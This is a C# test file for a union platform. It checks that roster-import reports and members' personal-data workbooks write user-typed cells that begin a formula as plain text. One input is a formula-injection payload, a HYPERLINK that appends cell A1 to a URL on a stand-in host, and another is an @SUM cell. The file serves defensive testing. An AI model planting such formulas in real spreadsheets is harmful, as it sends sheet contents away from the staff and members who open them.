using System.Net.Http.Json;
using MiniExcelLibs;
using UnionHome.Platform.Data;
using UnionHome.Tests.Infrastructure;
using UnionHome.Tests.Membership;

namespace UnionHome.Tests.PersonalData;

/// <summary>
/// What a person typed goes into workbooks staff and members open in Excel or WPS: a cell that starts with = + - @
/// would run as a formula there (a link that sends the sheet away, a command), so every export writes it as text.
/// </summary>
[Collection(PlatformCollection.Name)]
public sealed class SpreadsheetFormulaTests(Apps apps)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(Databases.Both), MemberType = typeof(Databases))]
    public async Task The_roster_report_writes_a_rejected_cell_that_starts_a_formula_as_text(DatabaseProvider provider)
    {
        var app = apps[provider];
        var (liaison, enterpriseId) = await Rosters.LiaisonAsync(app);
        const string formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点我\")";

        var progress = await Rosters.ImportAsync(app, liaison, enterpriseId, Rosters.Workbook(["姓名", "身份证号", "手机号"], ["骑手子", ResidentIds.New("330102"), formula], ["骑手丑", ResidentIds.New("330102"), "@SUM(1+1)"]));

        var bytes = await app.ClientWithToken(liaison).GetByteArrayAsync($"/api/v1/roster-imports/{progress.Id}/report", Ct);
        var values = new MemoryStream(bytes).Query(useHeaderRow: true).Cast<IDictionary<string, object>>().Select(r => r["填写内容"] as string).ToList();
        // The report masks what it repeats; what is left still starts as it was typed.
        values.ShouldContain(v => v!.StartsWith("'=HY", StringComparison.Ordinal));
        values.ShouldContain(v => v!.StartsWith("'@SU", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Databases.Both), MemberType = typeof(Databases))]
    public async Task The_personal_data_workbook_writes_what_a_member_typed_that_starts_a_formula_as_text(DatabaseProvider provider)
    {
        var app = apps[provider];
        var member = await Members.ActiveAsync(app, Sessions.NewPhone(), ResidentIds.New("330902"), "330902");
        const string description = "-2+3 船东拖欠工资，=HYPERLINK 不是公式";
        (await member.PostAsJsonAsync("/api/v1/cases", new { category = "wage", urgency = "normal", description, clientRequestId = Guid.NewGuid().ToString() }, Ct)).EnsureSuccessStatusCode();

        var workbook = await member.GetByteArrayAsync("/api/v1/me/data-export?format=xlsx", Ct);

        var row = new MemoryStream(workbook).Query(useHeaderRow: true, sheetName: "求助").Cast<IDictionary<string, object>>().ShouldHaveSingleItem();
        row["求助内容"].ShouldBe("'" + description);
    }
}
